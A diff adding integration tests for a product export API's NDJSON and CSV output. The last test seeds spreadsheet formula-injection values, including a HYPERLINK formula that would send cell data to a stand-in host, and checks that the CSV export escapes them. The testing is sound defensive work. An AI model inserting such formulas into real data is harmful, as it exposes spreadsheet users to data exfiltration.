@@ -1,0 +1,92 @@
+import { randomUUID } from 'node:crypto'
+import type { Product } from '@/lib/products/schema'
+import { api } from '../../support/api'
+import { makeApiKey, makeProduct, signIn } from '../../support/factories'
+
+const read = (query: string, accept?: string) =>
+  api('GET', `/api/products/export?${query}`, { headers: accept === undefined ? {} : { Accept: accept } })
+
+const lines = (text: string): Product[] =>
+  text
+    .split('\n')
+    .filter((line) => line !== '')
+    .map((line) => JSON.parse(line))
+
+describe('GET /api/products/export', () => {
+  it('writes every product that fulfils the filters, as a read shows it, by id', async () => {
+    const category = randomUUID()
+    const made = []
+    for (let index = 0; index < 25; index += 1) made.push(await makeProduct({ category, stock: index % 2 }))
+    const answer = await read(`category=${category}&inStock=true`)
+    expect(answer.status).toBe(200)
+    const wanted = made.filter(({ stock }) => stock > 0)
+    expect(lines(answer.text).map(({ id }) => id)).toEqual(wanted.map(({ id }) => id))
+    expect(lines(answer.text)[0]).toEqual((await api('GET', `/api/products/${wanted[0]?.id}`)).json)
+    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="products.ndjson"')
+  })
+
+  it.each([
+    ['', 'application/x-ndjson'],
+    ['*/*', 'application/x-ndjson'],
+    ['text/csv', 'text/csv'],
+    ['text/*', 'text/csv'],
+    ['text/csv;q=0.1, application/x-ndjson;q=0.9', 'application/x-ndjson'],
+    ['text/csv, */*;q=0.1', 'text/csv'],
+    ['application/xml', 'application/x-ndjson'],
+    ['text/csv;q=0', 'application/x-ndjson'],
+    ['nonsense', 'application/x-ndjson'],
+  ])('answers Accept: %s with %s', async (accept, type) => {
+    const answer = await read(`category=${randomUUID()}`, accept)
+    expect([answer.status, answer.headers.get('content-type')]).toEqual([200, `${type}; charset=utf-8`])
+    expect(answer.headers.get('vary')).toContain('Accept')
+  })
+
+  it('of nothing is empty, or a header', async () => {
+    const query = `category=${randomUUID()}`
+    expect((await read(query)).text).toBe('')
+    expect((await read(query, 'text/csv')).text).toBe(
+      'id,sku,name,description,category,priceCents,currency,stock,attributes,createdAt,updatedAt\n',
+    )
+  })
+
+  it('has a HEAD that says what a GET would be, and checks as it does', async () => {
+    const head = await api('HEAD', '/api/products/export?inStock=true', { headers: { Accept: 'text/csv' } })
+    expect([head.status, head.text, head.headers.get('content-type')]).toEqual([200, '', 'text/csv; charset=utf-8'])
+    expect((await api('HEAD', '/api/products/export?inStock=x')).status).toBe(400)
+  })
+
+  it.each(['page=1', 'cursor=', 'limit=5', 'sort=name', 'nope=1'])('refuses ?%s, which is for lists', async (query) => {
+    const answer = await read(query)
+    expect([answer.status, answer.json.error.code]).toEqual([400, 'VALIDATION_ERROR'])
+  })
+
+  it('is for anybody, whatever their credentials are for', async () => {
+    const { user, token } = await signIn()
+    const { key } = await makeApiKey(user, ['users:read'])
+    const url = `/api/products/export?category=${randomUUID()}`
+    for (const as of [undefined, token, key]) expect((await api('GET', url, { token: as })).status).toBe(200)
+  })
+})
+
+describe('the CSV of an export', () => {
+  it('holds no text that a spreadsheet would run, and is read as it was written', async () => {
+    const { token } = await signIn({ role: 'admin' })
+    const category = `=${randomUUID()}`
+    const formulas = [
+      ...['=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("http://x.test?"&A1)'],
+      ...["'=1", "''+x", "'plain", '=a,"b"\r\n=c'],
+    ]
+    for (const name of formulas) {
+      await makeProduct({ sku: `=${randomUUID()}`, name, description: `\t${name}`, category })
+    }
+    const url = `/api/products/export?category=${encodeURIComponent(category)}`
+    const csv = await api('GET', url, { headers: { Accept: 'text/csv' } })
+    expect(csv.text).not.toMatch(/(^|,"?)[=+\-@\t\r]/)
+    const before = (await api('GET', url)).text
+    expect(lines(before).map(({ name }) => name)).toEqual(formulas)
+    const call = { token, body: csv.text, headers: { 'Content-Type': 'text/csv' } }
+    const { json } = await api('POST', '/api/products/import', call)
+    expect(json).toEqual({ created: 0, updated: formulas.length, failed: 0, errors: [] })
+    expect((await api('GET', url)).text).toBe(before)
+  })
+})
